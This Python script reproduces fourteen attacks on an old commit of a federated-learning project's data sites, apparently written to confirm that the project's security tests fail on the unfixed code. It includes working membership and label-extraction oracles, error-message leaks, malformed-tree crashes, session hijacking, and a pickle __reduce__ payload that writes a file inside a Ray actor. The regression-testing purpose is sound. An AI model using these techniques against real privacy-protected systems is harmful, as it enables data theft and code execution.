"""The attacks of issue 7 against the sites as they were at commit 41bffa9 (before restricted sites).

Run it against a checkout of that commit, with this repository's environment::

    old=$(mktemp -d) && git archive 41bffa9 | tar -x -C "$old"
    PYTHONPATH="$old" .venv/bin/python experiments/attacks_on_41bffa9.py --out experiments/measured/attacks_on_41bffa9.json

Each function plays the analyst with only what that code gave an analyst (site objects,
``SiteHost`` sessions, Ray actor handles) and reports what it recovered.  The same attack
classes are tried against the restricted sites in ``tests/test_attacks*.py``, where each
is refused or useless; this script is how the tests were checked to fail on the old code.
"""

from __future__ import annotations

import argparse
import json
import os
import subprocess
import sys
import tempfile

import numpy as np
from sklearn.datasets import make_classification

X, Y = make_classification(n_samples=160, n_features=12, n_informative=5, random_state=3)


def _old():
    import raytune_fed.federation as fed

    if not hasattr(fed, "Curator") or not hasattr(fed.SiteHost, "open_session"):
        raise SystemExit("run this against a checkout of commit 41bffa9 (see the docstring)")
    return fed


def _inbag(seed=0):
    from raytune_fed.simulation import inbag_outbag

    return inbag_outbag(Y, inbag_fraction=0.8, seed=seed)[0]


def _en(coef, intercept, classes):
    """An elastic-net pipeline of the allowed classes whose learned attributes are overwritten."""
    from raytune_fed.models import get_learner

    p = get_learner("elastic_net").build({"alpha": 0.5, "lambda": 0.01}).fit(X, Y)
    p.steps[1][1].mean_, p.steps[1][1].scale_ = np.zeros(12), np.ones(12)
    p.steps[2][1].coef_ = np.asarray(coef, float).reshape(1, -1)
    p.steps[2][1].intercept_ = np.array([float(intercept)])
    p.steps[2][1].classes_ = np.asarray(classes)
    return p


def _forest_with_tree(state, n_classes=2):
    from raytune_fed.models import get_learner
    from sklearn.tree._tree import Tree

    p = get_learner("random_forest").build({"num_trees": 100, "min_node_size": 5, "sample_fraction": 0.5},
                                           seed=0).fit(X, Y)
    rf = p.steps[-1][1]
    rf.estimators_ = rf.estimators_[:1]
    est = rf.estimators_[0]
    tree = Tree(12, np.array([n_classes], dtype=np.intp), 1)
    tree.__setstate__(state)
    est.tree_ = tree
    est.n_classes_ = n_classes
    rf.n_classes_ = n_classes
    return p


def _nodes(rows):
    from sklearn.tree._tree import NODE_DTYPE

    nodes = np.zeros(len(rows), dtype=NODE_DTYPE)
    for i, (left, right, feature, threshold) in enumerate(rows):
        nodes[i] = (left, right, feature, threshold, 0.0, 1, 1.0, 0)
    return nodes


def _binned_tree(feature, lo, hi, n_bins, n_classes):
    """A tree whose leaf b (of n_bins equal bins of [lo, hi] on ``feature``) votes class b + 2."""
    edges = np.linspace(lo, hi, n_bins + 1)
    rows, values = [], []

    def build(a, b):
        i = len(rows)
        rows.append(None)
        values.append(np.zeros(n_classes))
        if b - a == 1:
            rows[i] = (-1, -1, -2, -2.0)
            values[i][a + 2] = 1.0
            return i
        mid = (a + b) // 2
        left = build(a, mid)
        right = build(mid, b)
        rows[i] = (left, right, feature, float(edges[mid]))
        return i

    build(0, n_bins)
    return {"max_depth": int(np.ceil(np.log2(n_bins))), "node_count": len(rows), "nodes": _nodes(rows),
            "values": np.array(values)[:, None, :]}


def crafted_classes_broadcasting():
    fed = _old()
    cur = fed.Curator(X, Y, seed=0)
    n = len(_inbag())
    try:
        cur.query(_en(np.zeros(12), -1.0, np.zeros((2, 4096, n))))
        return {"refused": False}
    except Exception as exc:  # noqa: BLE001 - we record what the analyst saw
        return {"refused": True, "error_type": type(exc).__name__, "message": str(exc)[:200],
                "message_reveals_row_count": str(n) in str(exc), "charged": cur.status().n_queries,
                "ledger_entries": len(cur.ledger())}


def foreign_labels_in_classes():
    """Two queries with classes_ = [7, 0] and [7, 1] give the exact count of rows with x_0 <= t."""
    fed = _old()
    cur = fed.Curator(X, Y, seed=0)
    inbag = _inbag()
    out = []
    for t in (-1.0, 0.0, 0.5):
        a = cur.query(_en(np.eye(12)[0], -t, [7, 0])).value
        b = cur.query(_en(np.eye(12)[0], -t, [7, 1])).value
        count = round((a + b) * len(inbag) - len(inbag))
        out.append({"t": t, "recovered_count": count, "true_count": int((X[inbag, 0] <= t).sum())})
    return {"counts": out, "exact": all(o["recovered_count"] == o["true_count"] for o in out)}


def svm_tiny_ball_oracle():
    """One row's label per query: an RBF SVM fitted to call only that row class 1."""
    from raytune_fed.models import get_learner

    fed = _old()
    cur = fed.Curator(X, Y, seed=0)
    inbag = _inbag()
    svm = get_learner("svm")
    cfg = {"C": 2.0 ** 15, "sigma": 2.0 ** 10}
    far = X.max(axis=0) + 100.0
    base = cur.query(svm.build(cfg).fit(np.vstack([X, far]), np.r_[np.zeros(len(X)), 1])).value
    recovered = []
    for i in inbag:
        labels = np.zeros(len(X))
        labels[i] = 1
        loss = cur.query(svm.build(cfg).fit(X, labels)).value
        recovered.append(int(loss < base))
    acc = float(np.mean(np.array(recovered) == Y[inbag]))
    return {"queries": len(inbag) + 1, "labels_recovered_accuracy": acc}


def hand_written_tree_box_counts():
    """A tree written through Tree.__setstate__ with foreign labels counts rows in a box."""
    fed = _old()
    cur = fed.Curator(X, Y, seed=0)
    inbag = _inbag()
    # root: x_0 <= 0 ? (x_1 <= 0 ? inside : outside) : outside
    rows = [(1, 4, 0, 0.0), (2, 3, 1, 0.0), (-1, -1, -2, -2.0), (-1, -1, -2, -2.0), (-1, -1, -2, -2.0)]
    values = np.array([[1, 1], [1, 1], [0, 1], [1, 0], [1, 0]], dtype=float)[:, None, :]
    state = {"max_depth": 2, "node_count": 5, "nodes": _nodes(rows), "values": values}
    answers = []
    for classes in ([7, 0], [7, 1]):
        p = _forest_with_tree(state)
        p.steps[-1][1].classes_ = np.array(classes)
        answers.append(cur.query(p).value)
    count = round(len(inbag) - (sum(answers) * len(inbag) - len(inbag)))
    truth = int(((X[inbag, 0] <= 0) & (X[inbag, 1] <= 0)).sum())
    return {"recovered_box_count": count, "true_box_count": truth, "exact": count == truth}


_MALFORMED = """
import sys, numpy as np
sys.path.insert(0, {here!r})
from attacks_on_41bffa9 import _forest_with_tree, _nodes, X, Y
import raytune_fed.federation as fed
kind = {kind!r}
if kind == "feature_1e9":
    rows = [(1, 2, 10**9, 0.0), (-1, -1, -2, -2.0), (-1, -1, -2, -2.0)]
else:  # the root's children point back to the root
    rows = [(0, 0, 0, 0.0), (-1, -1, -2, -2.0), (-1, -1, -2, -2.0)]
values = np.array([[1, 1], [1, 0], [0, 1]], dtype=float)[:, None, :]
p = _forest_with_tree({{"max_depth": 1, "node_count": 3, "nodes": _nodes(rows), "values": values}})
print(fed.Curator(X, Y, seed=0).query(p))
"""


def malformed_trees():
    here = os.path.dirname(os.path.abspath(__file__))
    out = {}
    for kind in ("feature_1e9", "self_loop"):
        try:
            proc = subprocess.run([sys.executable, "-c", _MALFORMED.format(here=here, kind=kind)],
                                  capture_output=True, text=True, timeout=60, env=os.environ.copy(),
                                  cwd=tempfile.gettempdir())  # so the checkout on PYTHONPATH is imported
            out[kind] = {"returncode": proc.returncode, "crashed": proc.returncode < 0,
                         "stderr_tail": proc.stderr.strip().splitlines()[-1:] if proc.stderr else []}
        except subprocess.TimeoutExpired:
            out[kind] = {"hung": True, "killed_after_seconds": 60}
    return out


def scaler_copy_false_in_place():
    from sklearn.feature_selection import VarianceThreshold
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    from raytune_fed.models import ElasticNetLogistic

    fed = _old()
    cur = fed.Curator(X, Y, seed=0)
    before = cur._X_in.copy()
    p = Pipeline([("standardize", StandardScaler(copy=False)), ("drop_constant", VarianceThreshold(0.0)),
                  ("model", ElasticNetLogistic(alpha=0.5, lambda_=0.01))]).fit(X.copy(), Y)
    cur.query(p)
    return {"site_rows_changed": bool(not np.array_equal(before, cur._X_in)),
            "max_abs_change": float(np.abs(before - cur._X_in).max())}


def refusal_text_leaks_data():
    """IndexError text names the leaf (a bin of x_0) of the first in-bag row: 4 refused queries."""
    fed = _old()
    cur = fed.Curator(X, Y, seed=0)
    inbag = _inbag()
    lo, hi = float(X[:, 0].min()) - 1.0, float(X[:, 0].max()) + 1.0
    n_bins = 998
    for _ in range(4):
        p = _forest_with_tree(_binned_tree(0, lo, hi, n_bins, n_bins + 2), n_classes=n_bins + 2)
        p.steps[-1][1].classes_ = np.array([0, 1])
        try:
            cur.query(p)
            return {"refused": False}
        except Exception as exc:  # noqa: BLE001
            text = str(exc)
        index = int(text.split("index ")[1].split(" ")[0])
        width = (hi - lo) / n_bins
        lo, hi = lo + (index - 2) * width, lo + (index - 1) * width
    truth = float(X[inbag[0], 0])
    return {"refused_queries": 4, "charged": cur.status().n_queries, "interval": [lo, hi], "true_value": truth,
            "error": abs((lo + hi) / 2 - truth), "sample_message": text[:160]}


def refusal_is_a_free_oracle():
    """Binary search of max(x_0) over the in-bag rows: a refusal means "some row is above t"
    and is never charged (answers are, but the search needs few of them)."""
    fed = _old()
    cur = fed.Curator(X, Y, seed=0)
    inbag = _inbag()
    lo, hi = float(X[:, 0].min()) - 1.0, float(X[:, 0].max()) + 1.0
    rows = [(1, 2, 0, 0.0), (-1, -1, -2, -2.0), (-1, -1, -2, -2.0)]
    queries = refused = 0
    while hi - lo > 1e-9 * max(1.0, abs(hi)):
        t = (lo + hi) / 2
        values = np.zeros((3, 1, 3))
        values[1, 0, 0] = 1.0  # x_0 <= t: class 0
        values[2, 0, 2] = 1.0  # x_0 > t: class index 2, out of bounds for classes_ -> refused
        nodes = _nodes(rows)
        nodes[0]["threshold"] = t
        p = _forest_with_tree({"max_depth": 1, "node_count": 3, "nodes": nodes, "values": values}, n_classes=3)
        p.steps[-1][1].classes_ = np.array([0, 1])
        queries += 1
        try:
            cur.query(p)
            hi = t
        except Exception:  # noqa: BLE001
            lo = t
            refused += 1
    return {"queries": queries, "refused": refused, "charged": cur.status().n_queries,
            "ledger_entries": len(cur.ledger()), "recovered_max": hi,
            "true_max_float32": float(np.float32(X[inbag, 0].max()))}


def refused_final_does_not_seal():
    from raytune_fed.models import get_learner

    fed = _old()
    lb = fed.Lockbox(X, Y)
    good = get_learner("svm").build({"C": 1.0, "sigma": 0.05}).fit(X, Y)
    refused = 0
    for _ in range(20):
        try:
            lb.final_evaluation([good, {"not": "a model"}])
        except Exception:  # noqa: BLE001
            refused += 1
    return {"refused_batches": refused, "answered_after": lb.final_evaluation([good]).n_rows}


def caller_chosen_policy():
    from raytune_fed.models import get_learner

    fed = _old()
    host = fed.SiteHost(X, Y, name="lockbox-site")
    st = host.open_session("mine", "curator", inbag_fraction=0.999, seed=123, budget=None)
    model = get_learner("svm").build({"C": 1.0, "sigma": 0.05}).fit(X, Y)
    return {"inbag_rows_with_0.999": st.n_rows, "of": len(Y), "budget_left": st.budget_left,
            "lockbox_site_answers_curator_queries": type(host.query("mine", model)).__name__}


def new_session_second_lockbox_answer():
    from raytune_fed.models import get_learner

    fed = _old()
    host = fed.SiteHost(X, Y, name="lb")
    model = get_learner("svm").build({"C": 1.0, "sigma": 0.05}).fit(X, Y)
    answers = []
    for sid in ("first", "second", "third"):
        host.open_session(sid, "lockbox")
        answers.append(host.final_evaluation(sid, [model]).values[0])
    return {"lockbox_answers_on_the_same_rows": len(answers)}


def guessable_sessions_close_others_ledger_lost():
    from raytune_fed.models import get_learner

    fed = _old()
    host = fed.SiteHost(X, Y, name="s")
    host.open_session("rfms-victim", "curator", seed=0)
    model = get_learner("svm").build({"C": 1.0, "sigma": 0.05}).fit(X, Y)
    host.query("rfms-victim", model)
    read = len(host.ledger("rfms-victim"))  # another analyst reads the victim's ledger by its id
    host.close_session("rfms-victim")       # ...and closes it
    try:
        host.ledger("rfms-victim")
        lost = False
    except Exception:  # noqa: BLE001
        lost = True
    return {"read_other_ledger_entries": read, "closed_other_session": True, "ledger_discarded": lost}


class _Payload:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


def ray_reduce_payload_and_role():
    import ray

    fed = _old()
    os.chdir(tempfile.gettempdir())  # Ray puts the driver's working directory on the workers' path
    ray.init(num_cpus=1, include_dashboard=False, logging_level="ERROR",
             runtime_env={"env_vars": {"PYTHONPATH": os.environ.get("PYTHONPATH", "")}})  # workers import the checkout
    try:
        host = fed.remote_site(fed.SiteHost, "s", X, Y)
        ray.get(host.open_session.remote("e", "curator", seed=0))
        path = os.path.join(tempfile.mkdtemp(), "written-by-payload")
        try:
            ray.get(host.query.remote("e", _Payload(path)))
        except Exception:  # noqa: BLE001 - the query itself is refused, after the payload ran
            pass
        role = ray.get(host._role.remote("e"))
        return {"payload_ran_in_actor": os.path.exists(path), "_role_returned": type(role).__name__,
                "rows_read": int(role._X_in.shape[0]), "labels_read": int(role._y_in.shape[0])}
    finally:
        ray.shutdown()


def thousands_of_queries():
    from raytune_fed.models import get_learner

    fed = _old()
    cur = fed.Curator(X, Y, seed=0)
    model = get_learner("elastic_net").build({"alpha": 0.5, "lambda": 0.01}).fit(X, Y)
    for _ in range(2000):
        cur.query(model)
    return {"answered": cur.status().n_queries, "budget_left": cur.status().budget_left}


ATTACKS = [crafted_classes_broadcasting, foreign_labels_in_classes, svm_tiny_ball_oracle, hand_written_tree_box_counts,
           malformed_trees, scaler_copy_false_in_place, refusal_text_leaks_data, refusal_is_a_free_oracle,
           refused_final_does_not_seal, caller_chosen_policy, new_session_second_lockbox_answer,
           guessable_sessions_close_others_ledger_lost, ray_reduce_payload_and_role, thousands_of_queries]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", default=None, help="write the results as JSON here")
    parser.add_argument("--only", default=None, help="comma-separated attack names")
    args = parser.parse_args()
    out = os.path.abspath(args.out) if args.out else None  # the Ray attack changes the working directory
    chosen = [a for a in ATTACKS if args.only is None or a.__name__ in args.only.split(",")]
    results = {}
    for attack in chosen:
        results[attack.__name__] = attack()
        print(attack.__name__, json.dumps(results[attack.__name__]), flush=True)
    if out:
        with open(out, "w") as f:
            json.dump({"commit": "41bffa9", "data": "make_classification(160, 12, random_state=3)",
                       "results": results}, f, indent=2)


if __name__ == "__main__":
    main()
